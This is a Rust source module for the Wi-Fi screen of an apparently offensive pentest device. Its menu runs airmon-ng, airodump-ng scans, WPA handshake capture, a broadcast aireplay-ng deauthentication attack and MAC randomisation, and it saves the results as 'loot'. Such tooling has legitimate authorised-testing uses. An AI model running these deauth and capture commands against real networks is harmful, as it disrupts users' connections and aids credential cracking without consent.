//! Wireless screen: monitor-mode control, scanning, deauth, handshake
//! capture, MAC randomisation.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use anyhow::Result;

use opsdeck_core::canvas::{Canvas, Tone};
use opsdeck_core::loot::loot_path;
use opsdeck_core::mode::{draw_header, Ctx, Menu, MenuItem, Mode};
use opsdeck_core::{AlertLevel, PayloadRequest, Settings};

use crate::net::{self, IfaceInfo};

pub struct WifiMode {
    menu: Mutex<Menu>,
    info: Arc<Mutex<IfaceInfo>>,
}

impl WifiMode {
    pub fn new(settings: &Settings) -> Arc<Self> {
        let info: Arc<Mutex<IfaceInfo>> = Arc::new(Mutex::new(IfaceInfo::default()));
        let items = vec![
            MenuItem::action("●", "Monitor Mode ON", {
                let info = Arc::clone(&info);
                move |ctx| {
                    let command = format!(
                        "sudo airmon-ng check kill && sudo airmon-ng start {}",
                        ctx.settings.interfaces.monitor
                    );
                    run_with_refresh(ctx, "Enable Monitor", command, 30, &info);
                    Ok(())
                }
            }),
            MenuItem::action("●", "Monitor Mode OFF", {
                let info = Arc::clone(&info);
                move |ctx| {
                    let command = format!(
                        "sudo airmon-ng stop {} && sudo systemctl restart NetworkManager",
                        ctx.settings.monitor_iface()
                    );
                    run_with_refresh(ctx, "Disable Monitor", command, 30, &info);
                    Ok(())
                }
            }),
            MenuItem::action("●", "WiFi Scan", {
                let info = Arc::clone(&info);
                move |ctx| {
                    let iface = active_iface(ctx, &info);
                    let outfile = loot_path(&ctx.settings, "wifi", "scan", "csv");
                    let base = outfile.with_extension("");
                    ctx.runner.run(PayloadRequest::new(
                        "WiFi Scan",
                        format!(
                            "sudo airodump-ng {iface} --write {} --output-format csv",
                            base.display()
                        ),
                        Duration::from_secs(25),
                    ));
                    Ok(())
                }
            }),
            MenuItem::action("●", "Deauth Attack", {
                let info = Arc::clone(&info);
                move |ctx| {
                    let Some(iface) = monitor_iface_or_alert(ctx, &info) else {
                        return Ok(());
                    };
                    let outfile = loot_path(&ctx.settings, "deauth", "deauth", "log");
                    let ctx_after = ctx.clone();
                    ctx.runner.run_then(
                        PayloadRequest::new(
                            "Deauth Attack",
                            format!(
                                "sudo aireplay-ng --deauth {} -a FF:FF:FF:FF:FF:FF {iface} 2>&1 | tee {}",
                                ctx.settings.tuning.deauth_count,
                                outfile.display()
                            ),
                            Duration::from_secs(ctx.settings.tuning.deauth_timeout_secs + 5),
                        ),
                        move || {
                            if ctx_after.state.tools_on_target() {
                                net::restore_after_monitor(&ctx_after);
                            }
                        },
                    );
                    Ok(())
                }
            }),
            MenuItem::action("●", "Capture Handshake", {
                let info = Arc::clone(&info);
                move |ctx| {
                    let Some(iface) = monitor_iface_or_alert(ctx, &info) else {
                        return Ok(());
                    };
                    let outfile = loot_path(&ctx.settings, "wifi", "handshake", "cap");
                    let base = outfile.with_extension("");
                    let ctx_after = ctx.clone();
                    ctx.runner.run_then(
                        PayloadRequest::new(
                            "Capture Handshake",
                            format!(
                                "sudo airodump-ng {iface} --write {} --output-format pcap",
                                base.display()
                            ),
                            Duration::from_secs(65),
                        ),
                        move || {
                            if ctx_after.state.tools_on_target() {
                                net::restore_after_monitor(&ctx_after);
                            }
                        },
                    );
                    Ok(())
                }
            }),
            MenuItem::action("●", "MAC Randomise", {
                let info = Arc::clone(&info);
                move |ctx| {
                    let iface = ctx.settings.interfaces.monitor.clone();
                    let command = format!(
                        "sudo ip link set {iface} down && sudo macchanger -r {iface} && sudo ip link set {iface} up"
                    );
                    run_with_refresh(ctx, "MAC Randomise", command, 10, &info);
                    Ok(())
                }
            }),
            MenuItem::action("●", "Interface Info", {
                let info = Arc::clone(&info);
                move |ctx| {
                    refresh_info(ctx, &info);
                    let snapshot = info.lock().expect("iface lock").clone();
                    ctx.state.add_alert(
                        format!("{}: {}", snapshot.name, snapshot.mode),
                        AlertLevel::Info,
                    );
                    Ok(())
                }
            }),
        ];
        Arc::new(Self {
            menu: Mutex::new(Menu::new(items, settings.ui.menu_visible_rows)),
            info,
        })
    }
}

/// Prefer the monitor interface when it exists, the managed adapter
/// otherwise.
fn refresh_info(ctx: &Ctx, info: &Arc<Mutex<IfaceInfo>>) {
    let mon = ctx.settings.monitor_iface();
    let fresh = {
        let probed = net::interface_info(&mon);
        if probed.exists {
            probed
        } else {
            net::interface_info(&ctx.settings.interfaces.monitor)
        }
    };
    *info.lock().expect("iface lock") = fresh;
}

fn active_iface(ctx: &Ctx, info: &Arc<Mutex<IfaceInfo>>) -> String {
    let snapshot = info.lock().expect("iface lock").clone();
    if snapshot.mode == "monitor" {
        snapshot.name
    } else {
        ctx.settings.interfaces.monitor.clone()
    }
}

fn monitor_iface_or_alert(ctx: &Ctx, info: &Arc<Mutex<IfaceInfo>>) -> Option<String> {
    let snapshot = info.lock().expect("iface lock").clone();
    if snapshot.mode == "monitor" {
        return Some(snapshot.name);
    }
    // pinned to a target network: auto-switch, and switch back on completion
    if ctx.state.tools_on_target() {
        return net::prepare_monitor(ctx);
    }
    ctx.state
        .add_alert("Enable monitor mode first!", AlertLevel::Error);
    None
}

fn run_with_refresh(
    ctx: &Ctx,
    name: &'static str,
    command: String,
    timeout_secs: u64,
    info: &Arc<Mutex<IfaceInfo>>,
) {
    let info = Arc::clone(info);
    let ctx_after = ctx.clone();
    ctx.runner.run_then(
        PayloadRequest::new(name, command, Duration::from_secs(timeout_secs)),
        move || {
            refresh_info(&ctx_after, &info);
            ctx_after.state.set_render_needed(true);
        },
    );
}

impl Mode for WifiMode {
    fn name(&self) -> &'static str {
        "WIFI"
    }

    fn icon(&self) -> &'static str {
        "📡"
    }

    fn menu(&self) -> Option<&Mutex<Menu>> {
        Some(&self.menu)
    }

    fn on_enter(&self, ctx: &Ctx) -> Result<()> {
        self.menu.lock().expect("menu lock").reset();
        refresh_info(ctx, &self.info);
        Ok(())
    }

    fn render(&self, ctx: &Ctx, canvas: &mut Canvas) -> Result<()> {
        draw_header(canvas, ctx, "WIFI ATTACK");
        let info = self.info.lock().expect("iface lock").clone();
        let mode_tone = match info.mode.as_str() {
            "monitor" => Tone::Ok,
            "managed" => Tone::Warning,
            _ => Tone::Error,
        };
        let name = if info.name.is_empty() {
            "N/A".to_string()
        } else {
            info.name.clone()
        };
        canvas.pair(&format!("{name}:"), info.mode.to_uppercase(), mode_tone);
        if let Some(channel) = &info.channel {
            canvas.pair("Channel", channel, Tone::Dim);
        }
        canvas.menu(&self.menu.lock().expect("menu lock"));
        canvas.footer("K3:Refresh/Cancel");
        Ok(())
    }

    fn on_key3(&self, ctx: &Ctx) -> Result<()> {
        refresh_info(ctx, &self.info);
        ctx.state.set_render_needed(true);
        Ok(())
    }
}
